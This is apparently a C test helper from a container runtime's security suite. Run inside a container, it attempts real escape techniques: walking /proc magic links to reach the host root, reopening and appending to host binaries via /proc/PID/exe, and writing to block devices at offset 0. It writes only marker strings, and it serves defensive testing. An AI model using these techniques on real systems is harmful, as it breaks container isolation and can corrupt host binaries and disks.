/*
 * attack-probe: the attacker's side of cairn's attack suite (tests/tests/attacks.rs).
 *
 * Built by the tests with `cc -static` and bind-mounted into a container, where it
 * runs as the container's root. Every mode prints or logs what it reached, one
 * fact per line, so the test (on the host) decides what counts as an escape:
 *
 *   race TAG OUTDIR MAXSECS
 *       Until OUTDIR/stop exists (or MAXSECS pass), polls every other process in
 *       the container: for each /proc/P/fd/N, /proc/P/cwd and /proc/P/root that
 *       is a directory it walks up (`../` x 24) from there; a walk that does not
 *       end at its own root reached another mount namespace's root (the host's,
 *       CVE-2019-19921/CVE-2024-21626 class). There it writes the marker file
 *       `cairn-attack-TAG` (in /, tmp/, var/tmp/, dev/shm/) and moves its cwd.
 *       It also opens /proc/P/exe (O_PATH) of every process whose binary is not
 *       in the container's root file system and keeps it; at the end it reopens
 *       each through /proc/self/fd/M, copies what it can read to
 *       OUTDIR/exe-DEV-INO (a memfd is only read, up to 1 MiB), and appends `CAIRN-ATTACK-TAG` to it when it can
 *       open it for writing (CVE-2019-5736 class).
 *       OUTDIR/log lines:
 *         ROOT dev ino                      its own root
 *         REACH pid what dev ino link       a directory reached by a walk (first
 *                                           time each dev:ino)
 *         ESCAPE pid what dev ino link      a walk that left the container root (the
 *                                           first 3; DONE counts them all)
 *         MARKER dir result                 marker write in an escaped dir
 *         CWD path                          getcwd() after fchdir to it
 *         LS name...                        the first names in it
 *         EXE pid dev ino size link         a foreign binary's /proc/P/exe
 *         EXEREAD dev ino bytes|errno       reopened read-only (content copied)
 *         EXEWRITE dev ino ok|errno         reopened for writing and appended
 *         DONE pids=N walks=N escapes=N exes=N
 *
 *   open PATH...
 *       For each path: its type and rdev, open O_RDONLY|O_NONBLOCK, read 64
 *       bytes (printed with non-printable bytes as '.'), and for a block device
 *       open O_WRONLY and write `CAIRN-ATTACK-OVERWRITE` at offset 0 + fsync.
 *       Output: `PATH type=.. rdev=MAJ:MIN open=ok|ERR read=N:"..." write=ok|ERR`.
 *
 *   mknod MAJ MIN PATH...
 *       For each path: mknod a block device MAJ:MIN (mode 0600), then as `open`,
 *       then unlinks it. Output: `PATH mknod=ok|ERR <open line>`.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/types.h>
#include <time.h>
#include <unistd.h>

static int logfd = 1;

static void logf_(const char *fmt, ...)
{
	char buf[4096];
	va_list ap;
	va_start(ap, fmt);
	int n = vsnprintf(buf, sizeof(buf) - 1, fmt, ap);
	va_end(ap);
	if (n < 0)
		return;
	if (n > (int)sizeof(buf) - 2)
		n = sizeof(buf) - 2;
	buf[n++] = '\n';
	(void)!write(logfd, buf, n);
}

static double now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

/* ---- race ---------------------------------------------------------------- */

#define MAX_SEEN 4096
static struct { dev_t dev; ino_t ino; } seen_dirs[MAX_SEEN];
static int n_seen_dirs;

static int seen_dir(dev_t dev, ino_t ino)
{
	for (int i = 0; i < n_seen_dirs; i++)
		if (seen_dirs[i].dev == dev && seen_dirs[i].ino == ino)
			return 1;
	if (n_seen_dirs < MAX_SEEN) {
		seen_dirs[n_seen_dirs].dev = dev;
		seen_dirs[n_seen_dirs].ino = ino;
		n_seen_dirs++;
	}
	return 0;
}

#define MAX_EXES 64
static struct { int fd; dev_t dev; ino_t ino; int memfd; } exes[MAX_EXES];
static int n_exes;

static const char *tag;
static struct stat root_st, self_exe_st;
static long walks, escapes;
static char up[24 * 3 + 1];

/* One walk up from /proc/PID/WHAT (a magic link). */
static void try_walk(int pid, const char *what)
{
	char path[PATH_MAX], link[PATH_MAX];
	snprintf(path, sizeof(path), "/proc/%d/%s/%s", pid, what, up);
	int d = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
	if (d < 0)
		return;
	walks++;
	struct stat st;
	if (fstat(d, &st) < 0) {
		close(d);
		return;
	}
	int is_root = st.st_dev == root_st.st_dev && st.st_ino == root_st.st_ino;
	char lpath[PATH_MAX];
	snprintf(lpath, sizeof(lpath), "/proc/%d/%s", pid, what);
	ssize_t n = readlink(lpath, link, sizeof(link) - 1);
	link[n > 0 ? n : 0] = 0;
	if (!seen_dir(st.st_dev, st.st_ino))
		logf_("REACH %d %s %lu %lu %s", pid, what, (unsigned long)st.st_dev,
		      (unsigned long)st.st_ino, link);
	if (is_root) {
		close(d);
		return;
	}
	/* Every escape is counted; the first few are logged and used. */
	if (++escapes > 3) {
		close(d);
		return;
	}
	logf_("ESCAPE %d %s %lu %lu %s", pid, what, (unsigned long)st.st_dev,
	      (unsigned long)st.st_ino, link);
	/* O_PATH cannot be a dirfd for creating files: reopen it for real. */
	snprintf(path, sizeof(path), "/proc/self/fd/%d", d);
	int rd = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	static const char *subs[] = {"", "tmp/", "var/tmp/", "dev/shm/"};
	for (unsigned i = 0; i < sizeof(subs) / sizeof(subs[0]); i++) {
		char name[PATH_MAX];
		snprintf(name, sizeof(name), "%scairn-attack-%s", subs[i], tag);
		int f = rd < 0 ? -1 : openat(rd, name, O_CREAT | O_WRONLY | O_CLOEXEC, 0644);
		if (f >= 0) {
			(void)!write(f, "written from inside a container\n", 32);
			close(f);
			logf_("MARKER /%s ok", name);
		} else {
			logf_("MARKER /%s %s", name, strerror(rd < 0 ? EBADF : errno));
		}
	}
	if (fchdir(d) == 0) {
		/* The raw syscall: glibc's getcwd() refuses "(unreachable)/..." paths. */
		char cwd[PATH_MAX];
		long n = syscall(SYS_getcwd, cwd, sizeof(cwd));
		logf_("CWD %s", n > 0 ? cwd : strerror(errno));
		(void)!chdir("/");
	}
	if (rd >= 0) {
		/* What is there, as proof of where it is: the first few names. */
		int ls = dup(rd);
		DIR *dir = ls < 0 ? NULL : fdopendir(ls);
		char names[1024] = "";
		size_t len = 0;
		struct dirent *e;
		for (int i = 0; dir && i < 16 && (e = readdir(dir));) {
			if (e->d_name[0] == '.')
				continue;
			len += snprintf(names + len, sizeof(names) - len, " %s", e->d_name);
			if (len >= sizeof(names))
				break;
			i++;
		}
		if (dir)
			closedir(dir);
		logf_("LS%s", names);
	}
	if (rd >= 0)
		close(rd);
	close(d);
}

static void try_exe(int pid)
{
	char path[64];
	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	int fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0)
		return;
	struct stat st;
	if (fstat(fd, &st) < 0 || st.st_dev == root_st.st_dev ||
	    (st.st_dev == self_exe_st.st_dev && st.st_ino == self_exe_st.st_ino)) {
		close(fd);
		return;
	}
	for (int i = 0; i < n_exes; i++)
		if (exes[i].dev == st.st_dev && exes[i].ino == st.st_ino) {
			close(fd);
			return;
		}
	if (n_exes == MAX_EXES) {
		close(fd);
		return;
	}
	/* Named through our own descriptor: the process may have exec'd since. */
	char link[PATH_MAX], self_path[64];
	snprintf(self_path, sizeof(self_path), "/proc/self/fd/%d", fd);
	ssize_t n = readlink(self_path, link, sizeof(link) - 1);
	link[n > 0 ? n : 0] = 0;
	exes[n_exes].fd = fd;
	exes[n_exes].dev = st.st_dev;
	exes[n_exes].ino = st.st_ino;
	exes[n_exes].memfd = strncmp(link, "/memfd:", 7) == 0;
	n_exes++;
	logf_("EXE %d %lu %lu %lld %s", pid, (unsigned long)st.st_dev, (unsigned long)st.st_ino,
	      (long long)st.st_size, link);
}

static void try_fds(int pid)
{
	char path[64];
	snprintf(path, sizeof(path), "/proc/%d/fd", pid);
	DIR *dir = opendir(path);
	if (!dir)
		return;
	struct dirent *e;
	while ((e = readdir(dir))) {
		if (e->d_name[0] < '0' || e->d_name[0] > '9')
			continue;
		char what[300];
		snprintf(what, sizeof(what), "fd/%s", e->d_name);
		try_walk(pid, what);
	}
	closedir(dir);
}

static void exe_finish(const char *outdir)
{
	for (int i = 0; i < n_exes; i++) {
		char path[PATH_MAX];
		unsigned long dev = exes[i].dev, ino = exes[i].ino;
		snprintf(path, sizeof(path), "/proc/self/fd/%d", exes[i].fd);
		int r = open(path, O_RDONLY | O_CLOEXEC);
		if (r < 0) {
			logf_("EXEREAD %lu %lu %s", dev, ino, strerror(errno));
		} else {
			/* A file is copied out for the test to compare with the host's binaries; a
			 * memfd (a sealed copy is allowed to be read) only read, 1 MiB at most. */
			char out[PATH_MAX];
			snprintf(out, sizeof(out), "%s/exe-%lu-%lu", outdir, dev, ino);
			int w = exes[i].memfd ? -1
					      : open(out, O_CREAT | O_TRUNC | O_WRONLY | O_CLOEXEC, 0644);
			long long total = 0;
			char buf[65536];
			ssize_t n;
			while ((n = read(r, buf, sizeof(buf))) > 0) {
				if (w >= 0)
					(void)!write(w, buf, n);
				total += n;
				if (exes[i].memfd && total >= 1 << 20)
					break;
			}
			if (w >= 0)
				close(w);
			close(r);
			logf_("EXEREAD %lu %lu %lld", dev, ino, total);
		}
		/* The binary may still be running (ETXTBSY): retry for a while. */
		double until = now() + 0.3;
		int wfd;
		do {
			wfd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
			if (wfd >= 0 || errno != ETXTBSY)
				break;
			usleep(20000);
		} while (now() < until);
		if (wfd < 0) {
			logf_("EXEWRITE %lu %lu %s", dev, ino, strerror(errno));
			continue;
		}
		char mark[256];
		int len = snprintf(mark, sizeof(mark), "CAIRN-ATTACK-%s", tag);
		ssize_t n = write(wfd, mark, len);
		logf_("EXEWRITE %lu %lu %s", dev, ino, n == len ? "ok" : strerror(errno));
		close(wfd);
	}
}

static int race(const char *outdir, double maxsecs)
{
	char path[PATH_MAX];
	snprintf(path, sizeof(path), "%s/log", outdir);
	logfd = open(path, O_CREAT | O_WRONLY | O_APPEND | O_CLOEXEC, 0644);
	if (logfd < 0) {
		perror(path);
		return 2;
	}
	char stop[PATH_MAX];
	snprintf(stop, sizeof(stop), "%s/stop", outdir);
	for (int i = 0; i < 24; i++)
		memcpy(up + 3 * i, "../", 3);
	if (stat("/", &root_st) < 0 || stat("/proc/self/exe", &self_exe_st) < 0) {
		perror("stat");
		return 2;
	}
	logf_("ROOT %lu %lu", (unsigned long)root_st.st_dev, (unsigned long)root_st.st_ino);
	int self = getpid();
	static unsigned char seen_pid[(1 << 22) / 8];
	long pids = 0;
	snprintf(path, sizeof(path), "%s/ready", outdir);
	int rf = open(path, O_CREAT | O_WRONLY | O_CLOEXEC, 0644);
	if (rf >= 0)
		close(rf);
	double deadline = now() + maxsecs;
	for (unsigned long iter = 0;; iter++) {
		if ((iter & 63) == 0 && (access(stop, F_OK) == 0 || now() > deadline))
			break;
		DIR *proc = opendir("/proc");
		if (!proc)
			break;
		struct dirent *e;
		while ((e = readdir(proc))) {
			if (e->d_name[0] < '0' || e->d_name[0] > '9')
				continue;
			int pid = atoi(e->d_name);
			if (pid == self)
				continue;
			if (pid < (1 << 22) && !(seen_pid[pid / 8] & (1 << (pid % 8)))) {
				seen_pid[pid / 8] |= 1 << (pid % 8);
				pids++;
			}
			try_exe(pid);
			try_fds(pid);
			try_walk(pid, "cwd");
			try_walk(pid, "root");
		}
		closedir(proc);
	}
	exe_finish(outdir);
	logf_("DONE pids=%ld walks=%ld escapes=%ld exes=%d", pids, walks, escapes, n_exes);
	return 0;
}

/* ---- devices ------------------------------------------------------------- */

static void probe_open(const char *p, char *line, size_t cap)
{
	size_t len = strlen(line);
	struct stat st;
	if (lstat(p, &st) < 0) {
		snprintf(line + len, cap - len, " type=missing(%s)", strerror(errno));
		return;
	}
	const char *type = S_ISBLK(st.st_mode) ? "block" : S_ISCHR(st.st_mode) ? "char"
						     : S_ISREG(st.st_mode) ? "file" : "other";
	len += snprintf(line + len, cap - len, " type=%s rdev=%u:%u", type, major(st.st_rdev),
			minor(st.st_rdev));
	int fd = open(p, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
	if (fd < 0) {
		snprintf(line + len, cap - len, " open=%s", strerror(errno));
		return;
	}
	char buf[65];
	ssize_t n = read(fd, buf, 64);
	close(fd);
	if (n < 0) {
		len += snprintf(line + len, cap - len, " open=ok read=%s", strerror(errno));
	} else {
		for (ssize_t i = 0; i < n; i++)
			if (buf[i] < 0x20 || buf[i] > 0x7e || buf[i] == '"')
				buf[i] = '.';
		buf[n] = 0;
		len += snprintf(line + len, cap - len, " open=ok read=%zd:\"%s\"", n, buf);
	}
	if (!S_ISBLK(st.st_mode))
		return;
	fd = open(p, O_WRONLY | O_CLOEXEC);
	if (fd < 0) {
		snprintf(line + len, cap - len, " write=%s", strerror(errno));
		return;
	}
	static const char over[] = "CAIRN-ATTACK-OVERWRITE";
	ssize_t w = pwrite(fd, over, sizeof(over) - 1, 0);
	int sync = fsync(fd);
	snprintf(line + len, cap - len, " write=%s",
		 w == (ssize_t)sizeof(over) - 1 && sync == 0 ? "ok" : strerror(errno));
	close(fd);
}

int main(int argc, char **argv)
{
	if (argc >= 5 && strcmp(argv[1], "race") == 0) {
		tag = argv[2];
		return race(argv[3], atof(argv[4]));
	}
	if (argc >= 3 && strcmp(argv[1], "open") == 0) {
		for (int i = 2; i < argc; i++) {
			char line[1024];
			snprintf(line, sizeof(line), "%s", argv[i]);
			probe_open(argv[i], line, sizeof(line));
			puts(line);
		}
		return 0;
	}
	if (argc >= 5 && strcmp(argv[1], "mknod") == 0) {
		dev_t dev = makedev(atoi(argv[2]), atoi(argv[3]));
		for (int i = 4; i < argc; i++) {
			char line[1024];
			int r = mknod(argv[i], S_IFBLK | 0600, dev);
			snprintf(line, sizeof(line), "%s mknod=%s", argv[i], r == 0 ? "ok" : strerror(errno));
			if (r == 0) {
				probe_open(argv[i], line, sizeof(line));
				unlink(argv[i]);
			}
			puts(line);
		}
		return 0;
	}
	fprintf(stderr, "usage: %s race TAG OUTDIR MAXSECS | open PATH... | mknod MAJ MIN PATH...\n",
		argv[0]);
	return 2;
}
